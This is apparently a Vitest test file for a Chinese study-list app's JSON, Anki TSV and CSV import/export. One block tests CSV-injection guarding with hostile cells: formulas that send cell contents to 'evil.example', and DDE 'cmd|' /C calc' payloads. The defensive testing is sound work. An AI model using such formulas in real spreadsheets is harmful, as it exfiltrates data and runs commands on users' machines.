import { describe, expect, it } from 'vitest';
import { applySave } from '../../utils/study/model';
import { csvField, guardCell, toAnkiTsv, toCsv, toJsonBackup, unguardCell } from '../../utils/study/export';
import { firstInvalidUtf8, MAX_IMPORT_BYTES, parseImport } from '../../utils/study/import';
import type { StudyItem } from '../../utils/study/types';
import { saveReq } from './helpers';

const enc = (s: string) => new TextEncoder().encode(s);

function sample(): StudyItem[] {
  let items = applySave([], saveReq(), Date.UTC(2026, 0, 2)).items;
  items = applySave(
    items,
    saveReq({ sentence: '他说:"干部,要实干"\n第二行。', url: 'http://x/a,b', pageTitle: 'A "quoted", title' }),
    Date.UTC(2026, 0, 3),
  ).items;
  items = applySave(
    items,
    saveReq({
      simplified: '两岸',
      traditional: '兩岸',
      pinyin: 'liǎng àn',
      definitions: ['both shores', 'both sides of the Taiwan Strait'],
      civic: { category: 'hktw', explanation: 'The mainland and Taiwan.' },
      sentence: '两岸同胞。',
      pageTitle: '',
      url: '',
    }),
    Date.UTC(2026, 0, 4),
  ).items;
  items = applySave(
    items,
    saveReq({
      simplified: '学习',
      traditional: '學習',
      pinyin: 'xué xí',
      definitions: ['to learn'],
      civic: null,
      sentence: '',
      url: '',
      pageTitle: '',
    }),
    Date.UTC(2026, 0, 5),
  ).items;
  items[0]!.notes = 'note, with "quotes"\nand a second line';
  return items;
}

function ok(r: ReturnType<typeof parseImport>) {
  if (!r.ok) throw new Error(`import failed: ${r.error}`);
  return r;
}

describe('JSON backup', () => {
  it('round-trips every field exactly', () => {
    const items = sample();
    const r = ok(parseImport(enc(toJsonBackup(items))));
    expect(r.format).toBe('json');
    expect(r.items).toEqual(items);
  });

  it('an empty list round-trips', () => {
    expect(ok(parseImport(enc(toJsonBackup([])))).items).toEqual([]);
  });

  it('a version 1 backup is migrated', () => {
    const v1 = `{"format":"dubao-study-list","version":1,"items":[\n{"word":"干部","pinyin":"gàn bù","meaning":"cadre","sentence":"句。","added":5}\n]}`;
    const r = ok(parseImport(enc(v1)));
    expect(r.items).toMatchObject([{ simplified: '干部', definitions: ['cadre'], contexts: [{ sentence: '句。' }] }]);
  });

  it('a truncated backup names its last line and says it is cut off', () => {
    const text = toJsonBackup(sample());
    const cut = text.slice(0, Math.floor(text.length * 0.6));
    const r = parseImport(enc(cut));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(new RegExp(`^Line ${cut.split('\n').length}: the JSON ends too early`));
  });

  it('a backup cut inside a string (then a line break) is still reported as cut off', () => {
    const text = toJsonBackup(sample());
    const at = text.indexOf('两岸同胞') + 2;
    const r = parseImport(enc(`${text.slice(0, at)}\n`));
    expect(r).toEqual({ ok: false, error: 'Line 3: the JSON ends too early (is the file cut off?).' });
  });

  it('a syntax error names the line it is on', () => {
    const lines = toJsonBackup(sample()).split('\n');
    lines[3] = lines[3]!.replace('"pinyin"', 'pinyin');
    const r = parseImport(enc(lines.join('\n')));
    expect(r).toEqual({ ok: false, error: 'Line 4: this is not valid JSON.' });
  });

  it('an item with a wrong field is refused with its line, and nothing is returned', () => {
    const lines = toJsonBackup(sample()).split('\n');
    lines[2] = lines[2]!.replace('"definitions":[', '"definitions":[3,');
    const r = parseImport(enc(lines.join('\n')));
    expect(r).toEqual({ ok: false, error: 'Line 3: item 2: "definitions" must be a list of strings.' });
  });

  it('foreign JSON is refused', () => {
    const r = parseImport(enc('{"name":"some other app","items":[]}'));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/^Line 1: this JSON file is not a Dubao backup/);
  });
});

describe('Anki TSV', () => {
  it('has the Anki header and six fields per note, no stray tabs or line breaks', () => {
    const tsv = toAnkiTsv(sample());
    expect(tsv.endsWith('\n')).toBe(true);
    const lines = tsv.slice(0, -1).split('\n');
    expect(lines.slice(0, 3)).toEqual([
      '#separator:tab',
      '#html:false',
      '#columns:Simplified\tTraditional\tPinyin\tMeaning\tSentence\tSource',
    ]);
    expect(lines).toHaveLength(6);
    for (const l of lines.slice(3)) expect(l.split('\t')).toHaveLength(6);
    expect(lines[3]!.split('\t')).toEqual([
      '干部',
      '幹部',
      'gàn bù',
      'cadre; official in the Communist Party',
      '正向激励促进干部勇担当善作为。 ‖ 他说:"干部,要实干" 第二行。',
      '乌海日报 <http://127.0.0.1/news.html> ‖ A "quoted", title <http://x/a,b>',
    ]);
  });

  it('re-imports to the same words, readings, senses and sentences', () => {
    const items = sample();
    const r = ok(parseImport(enc(toAnkiTsv(items))));
    expect(r.format).toBe('tsv');
    expect(r.items.map((i) => [i.simplified, i.traditional, i.pinyin, i.definitions])).toEqual(
      items.map((i) => [i.simplified, i.traditional, i.pinyin, i.definitions]),
    );
    expect(r.items[0]!.contexts.map((c) => [c.title, c.url])).toEqual([
      ['乌海日报', 'http://127.0.0.1/news.html'],
      ['A "quoted", title', 'http://x/a,b'],
    ]);
    expect(r.items[2]!.contexts).toEqual([]);
  });

  it('a line with the wrong number of columns is named', () => {
    const lines = toAnkiTsv(sample()).split('\n');
    lines[5] = lines[5]!.split('\t').slice(0, 4).join('\t');
    const r = parseImport(enc(lines.join('\n')));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/^Line 6: expected 6 tab-separated fields .* found 4\.$/);
  });

  it('a TSV of something else (no Chinese headword) is refused', () => {
    const r = parseImport(enc('apple\tapple\tx\tfruit\ts\tsrc\n'));
    expect(r).toEqual({ ok: false, error: 'Line 1: the first field ("apple") is not a Chinese word.' });
  });
});

describe('CSV', () => {
  it('quotes fields with commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    const csv = toCsv(sample());
    expect(csv.startsWith('\uFEFFsimplified,traditional,pinyin,meaning,category,explanation,sentence,title,url,notes,saved\r\n')).toBe(
      true,
    );
    expect(csv).toContain('"note, with ""quotes""\nand a second line"');
  });

  it('round-trips every field except per-sentence dates', () => {
    const items = sample();
    const r = ok(parseImport(enc(toCsv(items))));
    expect(r.format).toBe('csv');
    const strip = (list: StudyItem[]) =>
      list.map((i) => ({ ...i, contexts: i.contexts.map((c) => ({ ...c, savedAt: 0, sentence: c.sentence.replace(/\n/g, ' ') })) }));
    expect(strip(r.items)).toEqual(strip(items));
  });

  it('wrong columns: a foreign header is refused on line 1', () => {
    const r = parseImport(enc('word,meaning\n干部,cadre\n'));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/^Line 1: not a Dubao CSV/);
  });

  it('a row with a missing field is named by its line, counting line breaks inside quotes', () => {
    const csv = toCsv(sample()).replace(/\r\n两岸,兩岸,liǎng àn,/, '\r\n两岸,liǎng àn,');
    const r = parseImport(enc(csv));
    // header = line 1; the first item spans lines 2-5 (sentence, title and url fields each hold 2 lines,
    // the notes hold 2), so the second item starts on line 5.
    const line = csv.slice(0, csv.indexOf('两岸,liǎng')).split('\n').length;
    expect(r).toEqual({ ok: false, error: `Line ${line}: expected 11 fields, found 10.` });
  });

  it('an unclosed quote is named', () => {
    const r = parseImport(enc('simplified,traditional,pinyin,meaning,category,explanation,sentence,title,url,notes,saved\n干部,"幹部\n'));
    expect(r).toEqual({ ok: false, error: 'Line 2: a quoted field is never closed.' });
  });
});

describe('cells a spreadsheet would run (CSV injection)', () => {
  /** Items whose page title, sentence, notes, sense or address start like a formula. */
  function hostile(): StudyItem[] {
    let items = applySave(
      [],
      saveReq({
        sentence: '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
        pageTitle: "+cmd|' /C calc'!A0",
        url: "@SUM(1+1)*cmd|' /C calc'!A0",
        definitions: ['-ism', 'cadre'],
      }),
      Date.UTC(2026, 0, 2),
    ).items;
    items = applySave(
      items,
      saveReq({ sentence: '\t=1+1', pageTitle: '\r=2+2', url: "'=already guarded by hand" }),
      Date.UTC(2026, 0, 3),
    ).items;
    items[0]!.notes = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
    items = applySave(
      items,
      saveReq({ simplified: '两岸', traditional: '兩岸', sentence: '＝全角等号开头的句子', pageTitle: 'plain title', url: '' }),
      Date.UTC(2026, 0, 4),
    ).items;
    return items;
  }

  /** The cells of our CSV, read by a small RFC 4180 reader of the test's own. */
  function csvCells(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
        else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') row.push(cell), (cell = '');
      else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
      else cell += c;
    }
    return rows;
  }

  const startsLikeFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

  it('guardCell makes formula starts text, and unguardCell undoes exactly that', () => {
    for (const s of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '＝1', "'=1", "''+x", "'plain", 'plain', '', "'"]) {
      expect(startsLikeFormula(guardCell(s)), s).toBe(false);
      expect(unguardCell(guardCell(s)), s).toBe(s);
    }
    expect(guardCell('=1+1')).toBe("'=1+1");
    expect(guardCell("'plain")).toBe("'plain");
  });

  it('no CSV cell starts like a formula, and importing the CSV gives back the exact text', () => {
    const items = hostile();
    const csv = toCsv(items);
    const cells = csvCells(csv).flat();
    expect(cells.filter(startsLikeFormula)).toEqual([]);
    // (applySave trims a sentence: the second one is "=1+1")
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"点击")\n=1+1');
    const r = ok(parseImport(enc(csv)));
    expect(r.items.map((i) => [i.notes, i.definitions, i.contexts.map((c) => [c.sentence, c.title, c.url])])).toEqual(
      items.map((i) => [i.notes, i.definitions, i.contexts.map((c) => [c.sentence, c.title, c.url])]),
    );
  });

  it('no TSV field starts like a formula, and importing the TSV gives back the text', () => {
    const items = hostile();
    const tsv = toAnkiTsv(items);
    const fields = tsv
      .split('\n')
      .filter((l) => l && !l.startsWith('#'))
      .flatMap((l) => l.split('\t'));
    expect(fields.filter(startsLikeFormula)).toEqual([]);
    const r = ok(parseImport(enc(tsv)));
    expect(r.items[0]!.contexts[0]!.sentence).toBe(items[0]!.contexts[0]!.sentence);
    expect(r.items[0]!.contexts[0]!.title).toBe(items[0]!.contexts[0]!.title);
    expect(r.items[0]!.definitions).toEqual(items[0]!.definitions);
    expect(r.items[0]!.definitions[0]).toBe('-ism');
    expect(r.items[1]!.contexts[0]!.sentence).toBe('＝全角等号开头的句子');
  });

  it('the JSON backup keeps such text exactly as saved', () => {
    const items = hostile();
    const json = toJsonBackup(items);
    expect(json).toContain('"sentence":"=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"点击\\")"');
    expect(ok(parseImport(enc(json))).items).toEqual(items);
  });
});

describe('bad bytes and big files', () => {
  it('non-UTF-8 bytes (a GB18030 file) are refused naming the line', () => {
    // "干部" in GBK is B8 C9 B2 BF; put it on line 3 of an otherwise ASCII file.
    const bytes = new Uint8Array([...enc('#separator:tab\n#html:false\n'), 0xb8, 0xc9, 0xb2, 0xbf, 0x09, 0x41, 0x0a]);
    const r = parseImport(bytes);
    expect(r).toEqual({ ok: false, error: 'Line 3: the file is not UTF-8 text (byte 28 is not valid UTF-8).' });
  });

  it('the UTF-8 check catches overlongs, surrogates and cut sequences, and accepts 4-byte characters', () => {
    expect(firstInvalidUtf8(enc('ok 𠀋 ok 干部'))).toBe(-1);
    expect(firstInvalidUtf8(new Uint8Array([0x41, 0xc0, 0x80]))).toBe(1);
    expect(firstInvalidUtf8(new Uint8Array([0xed, 0xa0, 0x80]))).toBe(0);
    expect(firstInvalidUtf8(new Uint8Array([0x41, 0xe5, 0xb9]))).toBe(1);
  });

  it('UTF-16 files get a hint', () => {
    const r = parseImport(new Uint8Array([0xff, 0xfe, 0x72, 0x5e]));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/UTF-16/);
  });

  it('a file over 10 MB is refused before it is read', () => {
    // Every read of the bytes is seen: only the length may be asked.
    const read: Array<string | symbol> = [];
    const big = new Proxy(new Uint8Array(MAX_IMPORT_BYTES + 1).fill(0x41), {
      get(target, p) {
        if (p !== 'length') read.push(p);
        return Reflect.get(target, p);
      },
    });
    const r = parseImport(big);
    expect(read).toEqual([]);
    expect(r).toEqual({ ok: false, error: 'The file is 10.0 MB; Dubao imports files up to 10.0 MB.' });
  });

  it('a 10 MB file just under the limit is read whole: a valid backup imports, junk is refused with a sentence', () => {
    const one = sample()[0]!;
    const items: StudyItem[] = [];
    let size = 200;
    for (let i = 0; ; i++) {
      const it = { ...one, simplified: `干部${i}` };
      const line = enc(`  ${JSON.stringify(it)},\n`).length;
      if (size + line > MAX_IMPORT_BYTES) break;
      size += line;
      items.push(it);
    }
    const bytes = enc(toJsonBackup(items));
    expect(bytes.length).toBeGreaterThan(9 * 1024 * 1024);
    expect(bytes.length).toBeLessThanOrEqual(MAX_IMPORT_BYTES);
    const r = ok(parseImport(bytes));
    expect(r.items).toHaveLength(items.length);
    expect(r.items.at(-1)).toEqual(items.at(-1));

    const junk = new Uint8Array(MAX_IMPORT_BYTES - 10).fill(0x61);
    const bad = parseImport(junk);
    expect(bad.ok).toBe(false);
    if (!bad.ok) expect(bad.error).toMatch(/^Line 1: /);
  });
});
